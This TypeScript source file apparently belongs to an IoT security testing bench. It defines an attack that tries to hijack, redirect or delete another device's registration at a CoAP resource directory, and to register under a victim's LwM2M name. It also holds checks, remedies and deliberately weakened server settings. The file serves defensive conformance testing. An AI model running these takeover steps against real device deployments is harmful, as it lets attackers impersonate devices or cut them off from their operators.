import { z } from "zod";
import { defineAttack, type Ground } from "#contract/attack.ts";
import type { Bench } from "#contract/bench.ts";
import { judgeLaunches } from "#contract/judging.ts";
import { needed } from "#contract/needed.ts";
import { duration } from "#contract/parameters.ts";
import { code } from "#simulator/coap/code.ts";
import { type Asker, openAsker } from "./parts/access-asker.ts";
import { attackersOf } from "./parts/access-attackers.ts";
import { judgePursuits, withAftermath } from "./parts/access-judging.ts";
import { pursue, pursuitsOf } from "./parts/access-pursuit.ts";
import { saysNo } from "./parts/access-reply.ts";
import { mustServe } from "./parts/access-serving.ts";
import {
  type Entry,
  locationIn,
  mustRegister,
  registration,
  seenOf,
  unregister,
} from "./parts/directory-registration.ts";

const id = "coap.directory-takeover";

export const directoryTakeover = defineAttack({
  id,
  title: "Take over what another device has registered at the resource directory",
  speaks: "coap",
  severity: "high",
  layer: "application",
  explains: `The victim registers an endpoint of a random name at the resource directory, with a lifetime of 90 s. A stranger, and a
device with a key of its own where there is DTLS, then registers the same name with a base of its own, sets the base at
the victim's registration, and removes that. The operator looks up what the directory says after each.
registrations-belong-to-their-owner fails where the lookup led to the attacker, or the registration was gone.
Where the target registers LwM2M clients, the attacker also registers under the victim's name before the victim does:
registration-names-are-proven fails where that was taken.
The control: the victim registers and the operator finds it.`,
  references: {
    cwe: ["CWE-862", "CWE-290", "CWE-345", "CWE-639"],
    attack: ["T1557", "T1583", "T0849", "T0832", "T1692.002"],
    owasp: ["I3"],
    clauses: ["RFC 9176 §5", "RFC 9176 §7.1", "RFC 9176 §7.5", "LwM2M Core 1.2 §6.2"],
    cases: ["CO-RD-01", "LW-04"],
  },
  parameters: z.strictObject({
    window: duration({ atLeast: "100ms", atMost: "10s" }).prefault("1s").describe("how long an answer is waited for"),
  }),
  needs: [],
  strains: false,
  atMostMs: ({ window }) => 30 * window + 15_000,

  async control(bench, ground, { window }) {
    const at = ground.resources?.directory;
    if (at === undefined) return mustServe(bench, ground, window);
    await using victim = await openAsker(bench, ground, "victim", ground.identities.victim);
    await using operator = await openAsker(bench, ground, "operator", ground.identities.operator);
    const entry = entryOf(bench, "victim");
    const location = await mustRegister(victim, at, entry, window);
    const seen = await seenOf(operator, ground, { ep: entry.ep, location }, window);
    if (seen === undefined) throw new Error(`what the victim registered at /${location} could not be looked up`);
    await unregister(victim, location, window);
  },

  async launch(bench, ground, { window }) {
    const at = ground.resources?.directory;
    if (at === undefined) return;
    await using victim = await openAsker(bench, ground, "victim", ground.identities.victim);
    await using operator = await openAsker(bench, ground, "operator", ground.identities.operator);
    for (const open of attackersOf(bench, ground)) {
      await using attacker = await open();
      const stage = { bench, ground, at, victim, operator, attacker, withinMs: window };
      await impersonate(stage);
      await takeOver(stage);
    }
  },

  recovery: (bench, ground, { window }) => mustServe(bench, ground, window),

  checks: [
    {
      id: "registrations-belong-to-their-owner",
      asks: "Is a registration changed and removed by nobody but the device that made it?",
      covers: "P4.3/clone-noticed",
      remedy:
        "Remember who registered an endpoint name, by the identity that DTLS proved, and refuse the name and the registration resource to everybody else (RFC 9176 §7.5, first come, first remembered). Then run this again: the lookup must still lead to the victim.",
      needs: [id],
      judge: (record) =>
        judgeLaunches(record, id, (run) => {
          const answer = judgePursuits(pursuitsOf(run.during.attack, ["take over"]), {
            did: "what another device had registered was taken over",
            held: "tries to take over a registration changed nothing",
            untried: "nobody knows a resource directory here",
          });
          return withAftermath(answer, run);
        }),
    },
    {
      id: "registration-names-are-proven",
      asks: "Does a device register as an LwM2M client under no name but the one that its key proves?",
      covers: "P4.3/rogue-rejected",
      remedy:
        "Compare the endpoint name of each registration with the identity that DTLS proved, and answer 4.03 where they differ. Then run this again: the victim's name must be refused to others.",
      needs: [id],
      judge: (record) =>
        judgeLaunches(record, id, ({ during }) =>
          judgePursuits(pursuitsOf(during.attack, ["impersonate"]), {
            did: "a name was registered that is another's",
            held: "registrations under another's name were refused",
            untried: "nobody knows a resource directory here that takes LwM2M clients",
          }),
        ),
    },
  ],
  twins: [
    {
      kills: "registrations-belong-to-their-owner",
      loosen: { where: "coap-server", knob: "rdOwnership", value: "overwrite" },
    },
    { kills: "registration-names-are-proven", loosen: { where: "coap-server", knob: "lwIdentity", value: "free" } },
  ],
});

interface Stage {
  readonly bench: Bench;
  readonly ground: Ground;
  /** Path of the registration resource. */
  readonly at: string;
  readonly victim: Asker;
  readonly operator: Asker;
  readonly attacker: Asker;
  readonly withinMs: number;
}

/** Bases are in the block of RFC 5737 that is for documentation, so that nobody is led anywhere. */
function entryOf(bench: Bench, who: string): Entry {
  const mark = bench.random.hex(8);
  return { ep: `${who}-${mark}`, base: `coap://192.0.2.1/${mark}`, links: `</${mark}>;rt="seatrial"` };
}

/** Three ways to get at what the victim has registered; the last one removes it. */
async function takeOver(stage: Stage): Promise<void> {
  const { bench, ground, at, victim, operator, attacker, withinMs } = stage;
  const entry = entryOf(bench, "victim");
  const location = await mustRegister(victim, at, entry, withinMs);
  const looked = () => seenOf(operator, ground, { ep: entry.ep, location }, withinMs);
  const ways = [
    { how: "POST of the same name", to: at, method: code.post },
    { how: "POST to it", to: location, method: code.post },
    { how: "PUT to it", to: location, method: code.put },
  ];
  for (const { how, to, method } of ways) {
    const mark = bench.random.hex(8);
    const rogue = { ...entry, base: `coap://192.0.2.66/${mark}`, links: `</${mark}>` };
    const order = { ...registration(to, rogue), code: method };
    await pursue(bench, attacker, { goal: "take over", how, path: location }, order, {
      withinMs,
      reached: async (reply) => {
        const seen = await looked();
        if (seen !== undefined) return seen.includes(mark);
        return reply !== undefined && saysNo(reply) ? false : undefined;
      },
    });
  }
  const before = await looked();
  await pursue(
    bench,
    attacker,
    { goal: "take over", how: "DELETE of it", path: location },
    { code: code.delete, path: location },
    {
      withinMs,
      isOnce: true,
      reached: async (reply) => {
        const seen = await looked();
        if (before !== undefined && seen !== undefined) return before.includes(entry.ep) && !seen.includes(entry.ep);
        return reply !== undefined && saysNo(reply) ? false : undefined;
      },
    },
  );
  await unregister(victim, location, withinMs);
}

/** Registers as an LwM2M client under the name of the victim, which has not registered. */
async function impersonate({ bench, ground, at, operator, attacker, withinMs }: Stage): Promise<void> {
  const { victim } = ground.identities;
  if (victim === undefined || ground.resources?.lwm2m === undefined) return;
  const mark = bench.random.hex(8);
  const rogue = {
    ep: needed(victim.username),
    base: `coap://192.0.2.66/${mark}`,
    links: "</1/0>,</3/0>",
    lwm2m: "1.1",
  };
  let location: string | undefined;
  await pursue(bench, attacker, { goal: "impersonate", how: "POST", path: at }, registration(at, rogue), {
    withinMs,
    reached: async (reply) => {
      location = locationIn(reply);
      if (location === undefined) return reply !== undefined && saysNo(reply) ? false : undefined;
      const seen = await seenOf(operator, ground, { ep: rogue.ep, location }, withinMs);
      return seen === undefined || seen.includes(mark);
    },
  });
  if (location !== undefined) await unregister(attacker, location, withinMs);
}
